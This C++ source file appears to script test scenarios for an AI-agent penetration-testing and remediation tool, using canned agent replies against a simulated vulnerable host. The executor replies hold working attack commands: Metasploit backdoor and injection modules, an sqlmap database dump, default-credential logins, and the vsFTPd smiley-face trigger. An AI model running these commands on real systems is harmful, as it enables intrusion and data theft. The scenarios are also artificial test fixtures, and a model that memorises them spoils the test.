#include "scenarios.hpp"

#include <algorithm>
#include <regex>

#include "penheal/core/errors.hpp"
#include "penheal/core/text.hpp"
#include "penheal/llm/prompts.hpp"
#include "penheal/pentest/plan_protocol.hpp"
#include "penheal/remediation/remediate.hpp"

namespace penheal::scenario {

namespace {

std::string replace_all(std::string s, std::string_view from, std::string_view to) {
    for (auto pos = s.find(from); pos != std::string::npos; pos = s.find(from, pos + to.size())) {
        s.replace(pos, from.size(), to);
    }
    return s;
}

Vulnerability vuln(std::string id, std::string service, int port, std::string description, std::string method) {
    Vulnerability v;
    v.id = std::move(id);
    v.service = std::move(service);
    v.port = port;
    v.description = std::move(description);
    v.exploitation_method = std::move(method);
    return v;
}

std::string msf(std::initializer_list<std::string_view> lines) {
    std::string out;
    for (auto l : lines) out += "$msfconsole: " + std::string(l) + "$\n";
    return out;
}

bool starts_with(std::string_view s, std::string_view prefix) { return s.substr(0, prefix.size()) == prefix; }

const std::string& last_user(const std::vector<llm::ChatTurn>& messages, std::size_t skip = 0) {
    for (auto it = messages.rbegin(); it != messages.rend(); ++it) {
        if (it->role_tag != llm::TurnRole::User) continue;
        if (skip-- == 0) return it->content;
    }
    throw Error("scenario: request has no user turn");
}

std::size_t assistant_turns(const std::vector<llm::ChatTurn>& messages) {
    std::size_t n = 0;
    for (const auto& m : messages) n += m.role_tag == llm::TurnRole::Assistant;
    return n;
}

// The "<id> on <service>/<port>" head of a rendered finding.
struct FindingHead {
    std::string id;
    std::string service;
    std::string port;
};

std::optional<FindingHead> finding_head(const std::string& text) {
    static const std::regex kHead(R"((CVE-[0-9A-Z-]+) on ([^/\s]+)/(\S+))");
    std::smatch m;
    if (!std::regex_search(text, m, kHead)) return std::nullopt;
    return FindingHead{m[1].str(), m[2].str(), m[3].str()};
}

AttackPlan plan_from_prompt(const std::string& user) {
    const auto start = user.find("Current attack plan:\n");
    if (start == std::string::npos) return {};
    return pentest::merge_plan(AttackPlan{}, pentest::parse_plan_lines(user.substr(start))).plan;
}

// ---------------------------------------------------------------------------
// Scenarios
// ---------------------------------------------------------------------------

const std::string kAllPorts = "21,22,23,25,53,80,2049,3306,5432,6667";

ScriptedTask recon_task() {
    return {"Identify open ports on {target} with a full TCP scan",
            "A full port scan comes first.\n$nmap -p- {target}$",
            {"/tcp open"},
            "open ports found",
            "no open port found",
            {},
            {}};
}

Scenario golden() {
    Scenario s;
    s.name = "golden";
    s.initial_plan =
        "1 [to-do] Reconnaissance\n"
        "1.1 [to-do] Identify open ports on 10.0.2.4 with a full TCP scan\n"
        "2 [to-do] Scanning\n"
        "2.1 [to-do] Detect service versions on the open ports\n"
        "3 [to-do] Vulnerability Assessment\n"
        "3.1 [to-do] Run nmap vulnerability scripts against the open ports\n"
        "4 [to-do] Exploitation\n"
        "4.1 [to-do] Search Metasploit for modules matching the detected services";
    s.pick_order = {"1.1", "2.1", "3.1", "4.1", "4.3", "4.2", "4.4", "4.5",  "4.6",
                    "4.9", "4.10", "4.7", "4.7.1", "4.8"};

    auto recon = recon_task();
    recon.description = "Identify open ports on 10.0.2.4 with a full TCP scan";
    s.tasks.push_back(recon);
    s.tasks.push_back({"Detect service versions on the open ports",
                       "$nmap -sV -p " + kAllPorts + " {target}$",
                       {"vsftpd 2.3.4"},
                       "vsftpd 2.3.4, OpenSSH 4.7p1, Apache 2.2.8, UnrealIRCd and others identified",
                       "no versions",
                       {},
                       {}});
    s.tasks.push_back(
        {"Run nmap vulnerability scripts against the open ports",
         "$nmap --script vuln -p " + kAllPorts + " {target}$",
         {"VULNERABLE"},
         "vsFTPd backdoor, PHP-CGI injection, SQL injection and trojaned UnrealIRCd reported",
         "nothing reported",
         {"4.2 [to-do] Exploit the vsFTPd 2.3.4 backdoor (CVE-2011-2523) on port 21",
          "4.3 [to-do] Exploit the trojaned UnrealIRCd backdoor on port 6667",
          "4.4 [to-do] Try default credentials against telnet on port 23",
          "4.5 [to-do] Exploit the SQL injection in mutillidae user-info.php on port 80",
          "4.6 [to-do] Exploit PHP-CGI argument injection (CVE-2012-1823) on port 80",
          "4.7 [to-do] Exploit the distcc daemon on port 3632",
          "4.8 [to-do] Confirm the vsFTPd backdoor (CVE-2011-2523) with a manual FTP login on port 21"},
         {}});
    s.tasks.push_back({"Search Metasploit for modules matching the detected services",
                       msf({"search vsftpd", "search unrealircd"}),
                       {"Matching Modules"},
                       "vsftpd_234_backdoor and unreal_ircd_3281_backdoor available",
                       "no modules",
                       {},
                       {}});
    s.tasks.push_back({"Exploit the vsFTPd 2.3.4 backdoor (CVE-2011-2523) on port 21",
                       "Metasploit has a module for this backdoor.\n" +
                           msf({"use exploit/unix/ftp/vsftpd_234_backdoor", "set RHOSTS {target}", "exploit"}),
                       {"opened"},
                       "root shell through the vsFTPd backdoor",
                       "exploit failed",
                       {},
                       {}});
    s.tasks.push_back({"Exploit the trojaned UnrealIRCd backdoor on port 6667",
                       msf({"use exploit/unix/irc/unreal_ircd_3281_backdoor", "set RHOSTS {target}", "exploit"}),
                       {"opened"},
                       "root shell through the UnrealIRCd backdoor",
                       "exploit failed",
                       {},
                       {}});
    s.tasks.push_back({"Try default credentials against telnet on port 23",
                       msf({"use auxiliary/scanner/telnet/telnet_login", "set RHOSTS {target}",
                            "set USERNAME msfadmin", "set PASSWORD msfadmin", "run"}),
                       {"Success:"},
                       "msfadmin/msfadmin accepted",
                       "login refused",
                       {},
                       {}});
    s.tasks.push_back({"Exploit the SQL injection in mutillidae user-info.php on port 80",
                       "$sqlmap -u \"http://{target}/mutillidae/index.php?page=user-info.php&username=a&password=b\" "
                       "--batch --dump$",
                       {"injection point"},
                       "credentials table dumped through the username parameter",
                       "parameter not injectable",
                       {},
                       {}});
    s.tasks.push_back({"Exploit PHP-CGI argument injection (CVE-2012-1823) on port 80",
                       msf({"use exploit/multi/http/php_cgi_arg_injection", "set RHOSTS {target}", "exploit"}),
                       {"opened"},
                       "shell as www-data through php-cgi",
                       "exploit failed",
                       {},
                       {}});
    s.tasks.push_back({"Exploit the distcc daemon on port 3632",
                       msf({"use exploit/unix/misc/distcc_exec", "set RHOSTS {target}", "exploit"}),
                       {"opened"},
                       "shell through distcc",
                       "connection refused",
                       {},
                       {"4.7.1 [to-do] Check whether port 3632 is open"}});
    s.tasks.push_back({"Check whether port 3632 is open",
                       "$nmap -p 3632 {target}$",
                       {"3632/tcp open"},
                       "port open",
                       "port 3632 closed",
                       {},
                       {}});
    s.tasks.push_back({"Confirm the vsFTPd backdoor (CVE-2011-2523) with a manual FTP login on port 21",
                       "$ftp {target}$\n$hacker:)$",
                       {"root shell obtained"},
                       "backdoor confirmed",
                       "no shell",
                       {},
                       {}});
    s.tasks.push_back({"Enumerate SMB services on ports 139 and 445",
                       "$nmap -sV -p 139,445 {target}$",
                       {"Samba smbd"},
                       "Samba 3.0.20 on 139 and 445",
                       "no SMB service",
                       {"4.10 [to-do] Exploit the Samba usermap_script vulnerability on port 139"},
                       {}});
    s.tasks.push_back({"Exploit the Samba usermap_script vulnerability on port 139",
                       msf({"use exploit/multi/samba/usermap_script", "set RHOSTS {target}", "exploit"}),
                       {"opened"},
                       "root shell through the Samba username map script",
                       "exploit failed",
                       {},
                       {}});
    s.counterfactual_additions[1] = {"4.9 [to-do] Enumerate SMB services on ports 139 and 445"};

    s.findings = {
        {"vsftpd_234_backdoor", vuln("CVE-2011-2523", "ftp", 21, "vsFTPd 2.3.4 backdoor",
                                     "Metasploit vsftpd_234_backdoor module")},
        {"unreal_ircd", vuln("CVE-2010-2075", "irc", 6667, "UnrealIRCd 3.2.8.1 trojaned backdoor",
                             "Metasploit unreal_ircd_3281_backdoor module")},
        {"telnet_login", vuln("CVE-NA", "telnet", 23, "default credentials msfadmin/msfadmin",
                              "telnet login with default credentials")},
        {"sqlmap", vuln("CVE-NA", "http", 80, "SQL injection in mutillidae user-info.php",
                        "sqlmap on the username parameter")},
        {"php_cgi_arg_injection", vuln("CVE-2012-1823", "http", 80, "PHP-CGI argument injection",
                                       "Metasploit php_cgi_arg_injection module")},
        {"usermap_script", vuln("CVE-2007-2447", "samba", 139, "Samba username map script command execution",
                                "Metasploit usermap_script module")},
        {"hacker:)", vuln("CVE-2011-2523", "ftp", 21, "vsFTPd 2.3.4 backdoor", "username ending in :)")},
    };

    s.estimator_replies["telnet"] = {"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H",
                                     "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"};
    s.estimator_replies["http"] = {"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:L/A:N"};
    s.estimator_replies["samba"] = {"CVSS:3.0/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"};

    s.advisor_replies["CVE-2011-2523"] =
        "1. Upgrade vsftpd to a clean release: sudo apt-get update && sudo apt-get install --only-upgrade vsftpd\n"
        "2. Block the backdoor listener on port 6200: sudo iptables -A INPUT -p tcp --dport 6200 -j DROP\n"
        "3. Replace FTP with SFTP and remove vsftpd: sudo apt-get purge vsftpd";
    s.advisor_replies["CVE-2010-2075"] =
        "1. Reinstall UnrealIRCd from a verified source archive and check its signature\n"
        "2. Restrict port 6667 to trusted hosts: sudo iptables -A INPUT -p tcp --dport 6667 ! -s 10.0.2.0/24 -j DROP\n"
        "3. Purge the IRC daemon: sudo apt-get purge unrealircd";
    s.advisor_replies["telnet"] =
        "1. Change the default passwords: sudo passwd msfadmin\n"
        "2. Disable telnet and use SSH instead: sudo update-inetd --disable telnet\n"
        "3. Monitor login attempts in /var/log/auth.log";
    s.advisor_replies["http"] =
        "1. Rewrite the queries in user-info.php as parameterized statements\n"
        "2. Deploy a web application firewall: sudo apt-get install libapache2-mod-security2 && sudo a2enmod security2\n"
        "3. Change the database password used by the web application";
    s.advisor_replies["CVE-2012-1823"] =
        "1. Upgrade PHP: sudo apt-get install --only-upgrade php5-cgi\n"
        "2. Reject query strings without '=' in front of php-cgi: RewriteCond %{QUERY_STRING} ^[^=]*$ and "
        "RewriteRule .* - [F]\n"
        "3. Switch the PHP handler from CGI to mod_php: sudo a2enmod php5";
    s.advisor_replies["CVE-2007-2447"] =
        "1. Update Samba to the latest version: sudo apt-get update && sudo apt-get install --only-upgrade samba\n"
        "2. Perform regular security audits of the Samba configuration\n"
        "3. Shut down the Samba service: sudo service samba stop\n"
        "4. Configure the firewall to allow SMB only from trusted hosts: "
        "sudo ufw allow from 10.0.2.0/24 to any port 139,445 proto tcp";

    s.evaluator_rules = {
        {"upgrade vsftpd", "full", {}, "low", "the patched package has no backdoor"},
        {"port 6200", "partial 60%", {}, "low", "the shell listener is blocked but the trojaned daemon stays"},
        {"replace ftp with sftp", "full", {}, "high", "the service is removed"},
        {"reinstall unrealircd", "full", {}, "moderate", "a clean build has no backdoor command"},
        {"port 6667", "partial 50%", {}, "low", "only hosts outside the subnet are blocked"},
        {"purge the irc", "full", {}, "high", "the service is removed"},
        {"default passwords", "full", {}, "low", "the known credentials stop working"},
        {"disable telnet", "full", {}, "moderate", "the service is gone but users must switch to SSH"},
        {"monitor login", "zero", {}, "low", "monitoring does not stop the login"},
        {"parameterized", "full", {}, "moderate", "the injection point is closed"},
        {"web application firewall", "partial 50%", {"CVE-2012-1823"}, "moderate",
         "common injection payloads are filtered for both web flaws"},
        {"database password", "zero", {}, "low", "the injection still works"},
        {"upgrade php", "full", {}, "low", "the fixed php-cgi ignores query string arguments"},
        {"query strings", "partial 80%", {}, "low", "most argument injection requests are rejected"},
        {"php handler", "full", {}, "moderate", "mod_php does not take command line arguments"},
        {"update samba", "full", {}, "low", "the patched release drops the username map script hole"},
        {"security audits", "partial 30%", {}, "low", "audits find problems but do not fix them"},
        {"shut down the samba", "full", {}, "high", "file sharing stops for every user"},
        {"configure the firewall", "full", {}, "low", "only trusted hosts can reach SMB"},
    };
    return s;
}

Scenario zero_exploit() {
    Scenario s;
    s.name = "zero_exploit";
    s.initial_plan =
        "1 [to-do] Reconnaissance\n"
        "1.1 [to-do] Identify open ports on 10.0.2.4 with a full TCP scan\n"
        "2 [to-do] Exploitation\n"
        "2.1 [to-do] Log in to SSH as root with the password toor\n"
        "2.2 [to-do] Exploit the ProFTPD 1.3.3c backdoor on port 21\n"
        "2.3 [to-do] Log in to MySQL as admin with the password admin\n"
        "2.4 [to-do] Look for a Tomcat manager on port 8080";
    s.pick_order = {"1.1", "2.1", "2.2", "2.3", "2.4"};
    auto recon = recon_task();
    recon.description = "Identify open ports on 10.0.2.4 with a full TCP scan";
    s.tasks.push_back(recon);
    s.tasks.push_back({"Log in to SSH as root with the password toor",
                       "$sshpass -p toor ssh root@{target} id$",
                       {"uid="},
                       "root login accepted",
                       "permission denied",
                       {},
                       {}});
    s.tasks.push_back({"Exploit the ProFTPD 1.3.3c backdoor on port 21",
                       msf({"use exploit/unix/ftp/proftpd_133c_backdoor", "set RHOSTS {target}", "exploit"}),
                       {"opened"},
                       "shell through ProFTPD",
                       "module not available; the FTP server is not ProFTPD",
                       {},
                       {}});
    s.tasks.push_back({"Log in to MySQL as admin with the password admin",
                       "$mysql -h {target} -u admin -padmin -e 'select user()'$",
                       {"admin@"},
                       "login accepted",
                       "access denied",
                       {},
                       {}});
    s.tasks.push_back({"Look for a Tomcat manager on port 8080",
                       "$curl -s http://{target}:8080/manager/html$",
                       {"Tomcat"},
                       "manager found",
                       "port 8080 refused the connection",
                       {},
                       {}});
    s.findings = {{"proftpd", vuln("CVE-2010-4221", "ftp", 21, "ProFTPD backdoor", "Metasploit module")}};
    return s;
}

Scenario duplicate() {
    Scenario s;
    s.name = "duplicate";
    s.initial_plan =
        "1 [to-do] Reconnaissance\n"
        "1.1 [to-do] Identify open ports on 10.0.2.4 with a full TCP scan\n"
        "2 [to-do] Exploitation\n"
        "2.1 [to-do] Exploit the vsFTPd 2.3.4 backdoor with Metasploit on port 21\n"
        "2.2 [to-do] Trigger the vsFTPd smiley-face backdoor by hand on port 21";
    s.pick_order = {"1.1", "2.1", "2.2"};
    auto recon = recon_task();
    recon.description = "Identify open ports on 10.0.2.4 with a full TCP scan";
    s.tasks.push_back(recon);
    s.tasks.push_back({"Exploit the vsFTPd 2.3.4 backdoor with Metasploit on port 21",
                       msf({"use exploit/unix/ftp/vsftpd_234_backdoor", "set RHOSTS {target}", "exploit"}),
                       {"opened"},
                       "root shell through the vsFTPd backdoor",
                       "exploit failed",
                       {},
                       {}});
    s.tasks.push_back({"Trigger the vsFTPd smiley-face backdoor by hand on port 21",
                       "$ftp {target}$\n$hacker:)$",
                       {"root shell obtained"},
                       "root shell on the backdoor listener",
                       "no shell",
                       {},
                       {}});
    const auto v = vuln("CVE-2011-2523", "ftp", 21, "vsFTPd 2.3.4 backdoor", "backdoor triggered");
    s.findings = {{"vsftpd_234_backdoor", v}, {"hacker:)", v}};
    s.estimator_replies["ftp"] = {"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"};
    s.advisor_replies["CVE-2011-2523"] =
        "1. Upgrade vsftpd to a clean release: sudo apt-get update && sudo apt-get install --only-upgrade vsftpd\n"
        "2. Block the backdoor listener on port 6200: sudo iptables -A INPUT -p tcp --dport 6200 -j DROP";
    s.evaluator_rules = {
        {"upgrade vsftpd", "full", {}, "low", "the patched package has no backdoor"},
        {"port 6200", "partial 60%", {}, "low", "the shell listener is blocked but the trojaned daemon stays"},
    };
    return s;
}

}  // namespace

const std::vector<std::string>& scenario_names() {
    static const std::vector<std::string> names{"golden", "zero_exploit", "duplicate"};
    return names;
}

Scenario make_scenario(std::string_view name) {
    if (name == "golden") return golden();
    if (name == "zero_exploit") return zero_exploit();
    if (name == "duplicate") return duplicate();
    throw PreconditionError("unknown scenario: " + std::string(name));
}

// ---------------------------------------------------------------------------
// Backend
// ---------------------------------------------------------------------------

ScenarioBackend::ScenarioBackend(Scenario scenario) : s_(std::move(scenario)) {}

const ScriptedTask* ScenarioBackend::task_named(std::string_view description) const {
    for (const auto& t : s_.tasks) {
        if (t.description == description) return &t;
    }
    return nullptr;
}

std::string ScenarioBackend::complete(const llm::ChatRequest& request) {
    const auto& user = last_user(request.messages);
    switch (request.role) {
        case AgentRole::Planner: return planner(user);
        case AgentRole::Executor: return executor(request.messages);
        case AgentRole::Summarizer: return summarizer(user);
        case AgentRole::Extractor: return extractor(user);
        case AgentRole::Estimator: return estimator(request.messages);
        case AgentRole::Advisor: return advisor(user);
        case AgentRole::Evaluator: return evaluator(request.messages);
        default: break;
    }
    throw Error("scenario " + s_.name + ": no script for role " + std::string(to_string(request.role)));
}

std::string ScenarioBackend::planner(const std::string& user) const {
    if (user.find("Create the initial attack plan") != std::string::npos) {
        return "Here is the initial plan.\n" + s_.initial_plan;
    }
    if (starts_with(user, llm::kCounterfactualLead)) {
        const auto plan = plan_from_prompt(user);
        const auto list_start = user.find('\n');
        const auto list_end = user.find("\n\nCurrent attack plan:");
        const std::string listed = user.substr(list_start + 1, list_end - list_start - 1);
        const auto count = text::split_lines(listed).size();
        // Restate the exploitation tasks that produced the listed findings.
        std::vector<std::string> out;
        static const std::regex kPort(R"(Port (\d+)/)");
        for (auto it = std::sregex_iterator(listed.begin(), listed.end(), kPort); it != std::sregex_iterator(); ++it) {
            const std::string needle = "port " + (*it)[1].str();
            for (const auto* n : plan.depth_first()) {
                if (n->status == TaskStatus::Completed && n->children.empty() && text::icontains(n->description, needle)) {
                    std::string line = n->id + " [completed] " + n->description;
                    if (n->result_summary) line += " => " + *n->result_summary;
                    if (std::find(out.begin(), out.end(), line) == out.end()) out.push_back(line);
                }
            }
        }
        if (auto it = s_.counterfactual_additions.find(count); it != s_.counterfactual_additions.end()) {
            out.insert(out.end(), it->second.begin(), it->second.end());
        }
        return "Revised tasks:\n" + text::join(out, "\n");
    }
    if (user.find("Answer with: Next task") != std::string::npos) {
        const auto candidates = pentest::actionable_ids(plan_from_prompt(user));
        for (const auto& id : s_.pick_order) {
            if (std::find(candidates.begin(), candidates.end(), id) != candidates.end()) return "Next task: " + id;
        }
        return "Next task: " + (candidates.empty() ? std::string("1") : candidates.front());
    }
    if (user.find("Update the attack plan.") != std::string::npos) {
        static const std::regex kTask(R"(Task ([\d.]+) \((.*)\) was executed\.)");
        std::smatch m;
        if (!std::regex_search(user, m, kTask)) throw Error("scenario: update prompt without a task line");
        const std::string id = m[1].str();
        const std::string description = m[2].str();
        const auto* task = task_named(description);
        if (!task) throw Error("scenario " + s_.name + ": no script for task \"" + description + "\"");
        const auto at = user.find("Summarized outcome:\n");
        const std::string summary = at == std::string::npos ? std::string() : user.substr(at);
        bool ok = false;
        for (const auto& marker : task->success_markers) ok = ok || summary.find(marker) != std::string::npos;
        const auto& adds = ok ? task->add_on_success : task->add_on_failure;
        std::vector<std::string> lines;
        if (ok || adds.empty()) {
            lines.push_back(id + (ok ? " [completed] " : " [failed] ") + description + " => " +
                            (ok ? task->result_ok : task->result_fail));
        }
        lines.insert(lines.end(), adds.begin(), adds.end());
        return text::join(lines, "\n");
    }
    throw Error("scenario " + s_.name + ": unrecognised Planner prompt");
}

std::string ScenarioBackend::executor(const std::vector<llm::ChatTurn>& messages) const {
    // A retry prompt carries no task; the task is in the turn before it.
    std::string user = last_user(messages);
    if (!starts_with(user, "Task: ")) user = last_user(messages, 1);
    std::string description = user.substr(6);
    if (const auto cut = description.find("\n\n"); cut != std::string::npos) description.resize(cut);
    const auto* task = task_named(description);
    if (!task) throw Error("scenario " + s_.name + ": no script for task \"" + description + "\"");
    return replace_all(task->executor_reply, "{target}", s_.target);
}

std::string ScenarioBackend::summarizer(const std::string& user) const {
    static const std::regex kKeep(
        R"(open|session|uid=|success|login successful|injection point|vulnerable|refused|failed|incorrect|denied|)"
        R"(closed|not found|no results|matching modules|vsftpd_|unreal_|samba smbd|version|\| )",
        std::regex::icase);
    const auto at = user.find("\nOutput:\n");
    const std::string output = at == std::string::npos ? user : user.substr(at + 9);
    std::vector<std::string> kept;
    for (auto line : text::split_lines(output)) {
        const std::string l(text::trim(line));
        if (l.empty() || starts_with(l, "[sim] simulated host")) continue;
        if (std::regex_search(l, kKeep)) kept.push_back(l);
        if (kept.size() == 15) break;
    }
    if (kept.empty()) return "The command produced no notable output.";
    return text::join(kept, "\n");
}

std::string ScenarioBackend::extractor(const std::string& user) const {
    static const std::vector<std::string> kSuccess{"opened", "shell obtained", "Success:", "injection point", "uid="};
    std::vector<std::string> blocks;
    std::vector<std::string> seen;
    const std::string history = user.substr(user.find('\n') + 1);
    std::size_t pos = 0;
    while (pos <= history.size()) {
        auto end = history.find("\n\nTask ", pos);
        const std::string block = history.substr(pos, end == std::string::npos ? std::string::npos : end - pos);
        const auto lines = text::split_lines(block);
        std::string command;
        for (auto l : lines) {
            if (starts_with(l, "$ ")) {
                command = std::string(l);
                break;
            }
        }
        bool success = false;
        for (const auto& marker : kSuccess) success = success || block.find(marker) != std::string::npos;
        if (success) {
            for (const auto& f : s_.findings) {
                if (!text::icontains(command, f.command_keyword)) continue;
                const auto& v = f.vuln;
                const std::string key = identity_key(v);
                if (std::find(seen.begin(), seen.end(), key) != seen.end()) break;
                seen.push_back(key);
                blocks.push_back("Exploited: " + v.id + "\nservice: " + v.service + "\nport: " + std::to_string(*v.port) +
                                 "\ndescription: " + v.description + "\nmethod: " + v.exploitation_method);
                break;
            }
        }
        if (end == std::string::npos) break;
        pos = end + 2;
    }
    if (blocks.empty()) return "No exploited vulnerabilities in this history.";
    return text::join(blocks, "\n\n");
}

std::string ScenarioBackend::estimator(const std::vector<llm::ChatTurn>& messages) const {
    // The first user turn holds the finding; retries follow it.
    std::string first;
    for (const auto& m : messages) {
        if (m.role_tag == llm::TurnRole::User) {
            first = m.content;
            break;
        }
    }
    const auto head = finding_head(first);
    if (!head) throw Error("scenario: Estimator prompt without a finding");
    auto it = s_.estimator_replies.find(head->service);
    if (it == s_.estimator_replies.end() || it->second.empty()) {
        throw Error("scenario " + s_.name + ": no Estimator reply for " + head->service);
    }
    const auto n = std::min(assistant_turns(messages), it->second.size() - 1);
    return it->second[n];
}

std::string ScenarioBackend::advisor(const std::string& user) const {
    const auto head = finding_head(user);
    if (!head) throw Error("scenario: Advisor prompt without a finding");
    if (auto it = s_.advisor_replies.find(head->id); it != s_.advisor_replies.end()) return it->second;
    if (auto it = s_.advisor_replies.find(head->service); it != s_.advisor_replies.end()) return it->second;
    throw Error("scenario " + s_.name + ": no Advisor reply for " + head->id + " on " + head->service);
}

std::string ScenarioBackend::evaluator(const std::vector<llm::ChatTurn>& messages) const {
    const std::string& system = messages.front().content;
    const std::string& user = last_user(messages);
    const std::string rec = user.substr(user.find('\n') + 1);

    // Numbered list lines from the system prompt: "N. <id> on <svc>/<port>..."
    static const std::regex kItem(R"(^(\d+)\. (CVE-[0-9A-Z-]+) on ([^/\s]+)/(\S+?):?(?: |$))");
    std::vector<std::string> addresses;
    auto index_of = [&](const std::string& tag) -> std::string {
        for (auto line : text::split_lines(system)) {
            const std::string l(line);
            std::smatch m;
            if (std::regex_search(l, m, kItem) && (m[2].str() == tag || m[3].str() == tag)) return m[1].str();
        }
        return {};
    };
    for (const auto& rule : s_.evaluator_rules) {
        if (!text::icontains(rec, rule.keyword)) continue;
        for (const auto& tag : rule.also_addresses) {
            if (auto idx = index_of(tag); !idx.empty()) addresses.push_back(idx);
        }
        return "Effectiveness: " + rule.effectiveness + "\nAddresses: " +
               (addresses.empty() ? std::string("none besides its own") : text::join(addresses, ", ")) +
               "\nCost: " + rule.cost + "\nRationale: " + rule.rationale + ".";
    }
    return "Effectiveness: partial 20%\nAddresses: none besides its own\nCost: moderate\nRationale: limited effect.";
}

}  // namespace penheal::scenario
